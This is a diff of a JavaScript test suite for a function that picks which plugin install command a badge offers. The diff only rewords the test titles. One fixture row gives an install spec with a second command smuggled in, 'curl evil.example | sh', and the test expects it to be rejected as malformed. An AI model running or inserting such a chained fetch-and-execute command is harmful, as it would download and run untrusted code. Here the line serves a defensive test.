@@ -15,25 +15,25 @@ const string = listing('acme/kite#packages/string', '@acme/string', '@acme/strin
 const bare = listing('acme/kite#packages/bare', null)
 
 describe('the offer of a badge', () => {
-  it('is the command for the person’s own profile', () => {
+  it('the offer of a badge is the command for the person’s own profile', () => {
     expect(offerFor([root], OPTIONS)).toEqual({
       kind: 'command',
       offered: { fullName: 'acme/kite', command: 'dsh plugin --profile desk add github:acme/kite' },
     })
   })
 
-  it('is the command of the root, at any position among the listings', () => {
+  it('the offer of a badge is the command of the root, at any position among the listings', () => {
     expect(offerFor([tail, bare, root, string], OPTIONS)).toEqual(offerFor([root], OPTIONS))
   })
 
-  it('is the only command that exists, with its listing', () => {
+  it('the offer of a badge is the only command that exists, with its listing', () => {
     expect(offerFor([bare, tail], OPTIONS)).toEqual({
       kind: 'command',
       offered: { fullName: 'acme/kite#packages/tail', command: 'dsh plugin --profile desk add @acme/tail' },
     })
   })
 
-  it('is a choice when several listings can be installed and the root cannot', () => {
+  it('the offer of a badge is a choice when several listings can be installed and the root cannot', () => {
     const unpublishedRoot = listing('acme/kite', null)
     expect(offerFor([tail, unpublishedRoot, string], OPTIONS)).toMatchObject({
       kind: 'choice',
@@ -41,14 +41,14 @@ describe('the offer of a badge', () => {
     })
   })
 
-  it('is a choice of one when only another listing than the root can be installed', () => {
+  it('the offer of a badge is a choice of one when only another listing than the root can be installed', () => {
     expect(offerFor([listing('acme/kite', null), tail], OPTIONS)).toMatchObject({
       kind: 'choice',
       among: [{ fullName: tail.fullName }],
     })
   })
 
-  it('is empty, with the reason, when no listing has a command', () => {
+  it('the offer of a badge is empty, with the reason, when no listing has a command', () => {
     expect(offerFor([bare], OPTIONS)).toEqual({ kind: 'none', reason: 'subdirectory-unpublished' })
     expect(offerFor([bare, listing('acme/kite', null)], OPTIONS)).toEqual({ kind: 'none', reason: 'unpublished' })
   })
@@ -58,7 +58,7 @@ describe('the offer of a badge', () => {
     ['another package', 'evil', 'other-package'],
     ['a subdirectory from its repository', 'github:acme/kite', 'subdirectory-needs-package', 'acme/kite#packages/tail'],
     ['a second command', 'github:acme/kite; curl evil.example | sh', 'malformed'],
-  ])('is never a command that installs %s', (_, spec, reason, fullName = 'acme/kite') => {
+  ])('the offer of a badge is never a command that installs %s', (_, spec, reason, fullName = 'acme/kite') => {
     expect(offerFor([listing(fullName, spec)], OPTIONS)).toEqual({ kind: 'none', reason })
   })
 })
